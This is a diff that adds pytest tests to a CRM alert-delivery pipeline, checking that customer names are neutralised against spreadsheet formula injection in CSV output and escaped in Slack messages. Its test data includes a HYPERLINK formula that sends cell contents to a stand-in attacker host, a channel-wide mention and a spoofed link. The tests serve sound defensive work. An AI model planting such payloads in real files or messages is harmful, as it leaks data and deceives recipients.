@@ -184,3 +184,39 @@ def test_run_failure_webhook_error_does_not_carry_the_url():
     with pytest.raises(WebhookError) as info:
         post_json("http://127.0.0.1:9/services/T1/B1/XXXXSECRETXXXX", {"text": "x"}, timeout=2)
     assert "XXXXSECRETXXXX" not in str(info.value) and "http://127.0.0.1:9/…" in str(info.value)
+
+
+# --- item 7: CRM text is neutralised for spreadsheets and escaped for Slack ----------------
+
+
+def test_csv_delivery_neutralises_spreadsheet_formulas(isolated_warehouse, tmp_path):
+    import csv
+
+    import pyarrow.parquet as pq
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    alerts = [
+        alert_row(1, customer_name=evil),
+        alert_row(2, customer_name="@SUM(A1:A9)"),
+        alert_row(3, customer_name="-2+3"),
+        alert_row(4, customer_name="Acme - East"),
+    ]
+    warehouse = write_marts(isolated_warehouse, alerts)
+    config = DeliveryConfig(destinations=(Destination("files", "files", {"directory": str(tmp_path / "out")}),))
+    _sync(warehouse, config)
+    with open(tmp_path / "out" / "alert_list.csv", newline="") as handle:
+        names = [row["customer_name"] for row in csv.DictReader(handle)]
+    assert names == ["'" + evil, "'@SUM(A1:A9)", "'-2+3", "Acme - East"]
+    scores = [row["health_score"] for row in csv.DictReader(open(tmp_path / "out" / "alert_list.csv", newline=""))]
+    assert scores == ["42", "42", "42", "42"]  # numbers untouched
+    assert pq.read_table(tmp_path / "out" / "alert_list.parquet").column("customer_name").to_pylist()[0] == evil
+
+
+def test_slack_messages_escape_mentions_and_links(server, receiver, isolated_warehouse):
+    alerts = [alert_row(1, customer_name="<!channel> Acme & Co <https://evil.example|your invoice>")]
+    warehouse = write_marts(isolated_warehouse, alerts)
+    _sync(warehouse, _config(server.url, format="slack"))
+    body = receiver.requests[0]["body"]
+    shown = body["blocks"][0]["text"]["text"]
+    assert "&lt;!channel&gt; Acme &amp; Co &lt;https://evil.example|your invoice&gt;" in shown
+    assert "<!channel>" not in body["text"] and "<https://evil" not in body["text"]
